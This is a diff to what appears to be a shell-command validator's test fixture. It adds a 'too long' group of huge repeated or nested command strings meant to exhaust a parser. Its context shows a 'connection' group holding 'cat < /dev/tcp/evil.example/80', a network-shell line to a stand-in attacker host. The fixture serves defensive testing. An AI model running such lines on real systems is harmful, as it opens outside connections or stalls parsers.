@@ -38,7 +38,16 @@ const DOUBTS: Record<DoubtKind, readonly string[]> = {
     '() { rm x; }',
     'ls > ',
     `${'( '.repeat(300)}x${' )'.repeat(300)}`,
+  ],
+  'too long': [
     `echo ${'{,'.repeat(20_000)}`,
+    `echo ${'$[ '.repeat(20_000)}`,
+    `cat ${'<<a '.repeat(30_000)}`,
+    `${'time '.repeat(30_000)}ls`,
+    `${'ls; '.repeat(501)}`,
+    `echo ${'a '.repeat(100_000)}`,
+    `echo ${'a'.repeat(200_000)}`,
+    'X=1 '.repeat(600),
   ],
   connection: [
     'cat < /dev/tcp/evil.example/80',
